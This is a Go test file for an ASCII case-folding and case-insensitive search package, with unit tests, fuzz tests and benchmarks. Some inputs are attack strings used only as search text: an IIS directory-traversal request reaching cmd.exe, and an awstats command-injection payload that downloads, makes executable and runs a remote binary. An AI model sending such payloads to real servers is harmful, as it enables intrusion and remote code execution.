package ascii

import (
	"bytes"
	"math/rand/v2"
	"testing"
	"unicode"
	"unicode/utf8"
)

// reference folds with the standard library, independently of Lower: ASCII bytes through
// unicode.ToLower, every byte >= 0x80 unchanged.
func reference(b []byte) []byte {
	out := make([]byte, len(b))
	for i, c := range b {
		if c < utf8.RuneSelf {
			c = byte(unicode.ToLower(rune(c)))
		}
		out[i] = c
	}
	return out
}

func TestLowerEveryByte(t *testing.T) {
	for c := 0; c < 256; c++ {
		if got, want := Lower(byte(c)), reference([]byte{byte(c)})[0]; got != want {
			t.Errorf("Lower(%#x) = %#x, want %#x", c, got, want)
		}
	}
}

func TestToLower(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"already lower", "already lower"},
		{"Failed PASSWORD", "failed password"},
		{"[X]@`{", "[x]@`{"},
		{"\xc3\x89T\xc3\x89", "\xc3\x89t\xc3\x89"}, // É stays: only ASCII folds
		{"\xc1\xe1Z", "\xc1\xe1z"},
	}
	for _, tt := range tests {
		if got := ToLower(tt.in); got != tt.want {
			t.Errorf("ToLower(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	in := []byte("MiXeD \xc1")
	LowerInPlace(in)
	if string(in) != "mixed \xc1" {
		t.Errorf("LowerInPlace: %q", in)
	}
}

func TestComparisons(t *testing.T) {
	tests := []struct {
		b, lower        string
		equal, pre, suf bool
		index           int
	}{
		{"", "", true, true, true, 0},
		{"abc", "", false, true, true, 0},
		{"", "a", false, false, false, -1},
		{"DROP", "drop", true, true, true, 0},
		{"[UFW BLOCK] IN=eth0", "block", false, false, false, 5},
		{"GET /CGI-BIN/phf", "/cgi-", false, false, false, 4},
		{"x.CGI", ".cgi", false, false, true, 1},
		{"Hello", "hello world", false, false, false, -1},
		{"\xc3\x89", "\xc3\xa9", false, false, false, -1}, // É is not é
		{"\xc1", "\xe1", false, false, false, -1},
		{"@", "`", false, false, false, -1},
		{"[", "{", false, false, false, -1},
		{"aaaB", "ab", false, false, true, 2},
	}
	for _, tt := range tests {
		b := []byte(tt.b)
		if got := EqualFold(b, tt.lower); got != tt.equal {
			t.Errorf("EqualFold(%q, %q) = %v", tt.b, tt.lower, got)
		}
		if got := HasPrefixFold(b, tt.lower); got != tt.pre {
			t.Errorf("HasPrefixFold(%q, %q) = %v", tt.b, tt.lower, got)
		}
		if got := HasSuffixFold(b, tt.lower); got != tt.suf {
			t.Errorf("HasSuffixFold(%q, %q) = %v", tt.b, tt.lower, got)
		}
		if got := IndexFold(b, tt.lower); got != tt.index {
			t.Errorf("IndexFold(%q, %q) = %d, want %d", tt.b, tt.lower, got, tt.index)
		}
	}
}

// TestAgainstReference compares every function with the standard library on random bytes from
// an alphabet where case pairs and pairs that differ only in bit 0x20 are common.
func TestAgainstReference(t *testing.T) {
	rng := rand.New(rand.NewPCG(3, 4))
	alphabet := []byte("aAbBzZ@`[{\xc1\xe1\x80 ")
	random := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[rng.IntN(len(alphabet))]
		}
		return b
	}
	for round := 0; round < 5000; round++ {
		b := random(rng.IntN(40))
		lower := string(reference(random(rng.IntN(4))))
		folded := reference(b)
		if got, want := ToLower(string(b)), string(folded); got != want {
			t.Fatalf("ToLower(%q) = %q, want %q", b, got, want)
		}
		if got, want := EqualFold(b, lower), bytes.Equal(folded, []byte(lower)); got != want {
			t.Fatalf("EqualFold(%q, %q) = %v", b, lower, got)
		}
		if got, want := HasPrefixFold(b, lower), bytes.HasPrefix(folded, []byte(lower)); got != want {
			t.Fatalf("HasPrefixFold(%q, %q) = %v", b, lower, got)
		}
		if got, want := HasSuffixFold(b, lower), bytes.HasSuffix(folded, []byte(lower)); got != want {
			t.Fatalf("HasSuffixFold(%q, %q) = %v", b, lower, got)
		}
		if got, want := IndexFold(b, lower), bytes.Index(folded, []byte(lower)); got != want {
			t.Fatalf("IndexFold(%q, %q) = %d, want %d", b, lower, got, want)
		}
	}
}

func TestComparisonsDoNotAllocate(t *testing.T) {
	line := []byte("Mar 13 12:34:56 host kernel: [UFW BLOCK] IN=eth0 PROTO=TCP")
	allocs := testing.AllocsPerRun(100, func() {
		_ = IndexFold(line, "proto=tcp") + IndexFold(line, "absent")
		_ = EqualFold(line[:3], "mar") && HasPrefixFold(line, "mar") && HasSuffixFold(line, "tcp")
		_ = ToLower("already lower")
	})
	if allocs != 0 {
		t.Fatalf("allocated %v times per run", allocs)
	}
}

// indexFoldByteByByte is the byte-at-a-time search IndexFold replaced: the oracle of FuzzIndexFold.
func indexFoldByteByByte(b []byte, lower string) int {
	for i := 0; i+len(lower) <= len(b); i++ {
		if EqualFold(b[i:i+len(lower)], lower) {
			return i
		}
	}
	return -1
}

// FuzzIndexFold compares IndexFold with the byte-at-a-time search on any text and needle,
// including bytes that differ from a letter only in 0x20 and needles longer than a word.
func FuzzIndexFold(f *testing.F) {
	f.Add([]byte("GET /scripts/..%c0%af../winnt/system32/CMD.EXE?/c+dir HTTP/1.0"), "cmd.exe")
	f.Add([]byte("@@@@@@@@`````````[[[[[[[{{{{{{{{ abc"), "`")
	f.Add([]byte("\x01\x00\x01\x00cgi\x00\x01CGI-BIN"), "cgi-bin")
	f.Add([]byte("aaaaaaaaaaaaaaaaaaaaaaab"), "aab")
	f.Fuzz(func(t *testing.T, b []byte, needle string) {
		lower := ToLower(needle)
		if got, want := IndexFold(b, lower), indexFoldByteByByte(b, lower); got != want {
			t.Fatalf("IndexFold(%q, %q) = %d, want %d", b, lower, got, want)
		}
	})
}

func BenchmarkIndexFold(b *testing.B) {
	lines := [][]byte{
		[]byte("/images/products/2002/catalogue-autumn-big.jpg"),
		[]byte("Sep 10 00:00:00 gw sshd[2211]: Failed password for invalid user oracle from 203.0.113.77 port 40322 ssh2"),
		[]byte("/cgi-bin/awstats.pl?configdir=|echo;echo%20YYY;cd%20%2ftmp%3bwget%2024%2e224%2e174%2e18%2flisten%3bchmod%20%2bx%20listen%3b%2e%2flisten%20216%2e102%2e212%2e115%3becho%20YYY;echo|"),
	}
	for _, impl := range []struct {
		name  string
		index func([]byte, string) int
	}{{"words", IndexFold}, {"bytes", indexFoldByteByByte}} {
		b.Run(impl.name, func(b *testing.B) {
			for b.Loop() {
				for _, l := range lines {
					impl.index(l, "cgi")
					impl.index(l, "authentication failure")
				}
			}
		})
	}
}

// FuzzLowerWordSameAsLower holds LowerWord to Lower on each of its eight bytes.
func FuzzLowerWordSameAsLower(f *testing.F) {
	f.Add(uint64(0x405a415b607a617b)) // '@' 'Z' 'A' '[' '`' 'z' 'a' '{'
	f.Add(uint64(0xc1dac0dbe1fae0fb)) // the same with the high bit set
	f.Add(uint64(0))
	f.Fuzz(func(t *testing.T, x uint64) {
		var want uint64
		for i := range 8 {
			want |= uint64(Lower(byte(x>>(8*i)))) << (8 * i)
		}
		if got := LowerWord(x); got != want {
			t.Fatalf("LowerWord(%#x) = %#x, want %#x", x, got, want)
		}
	})
}
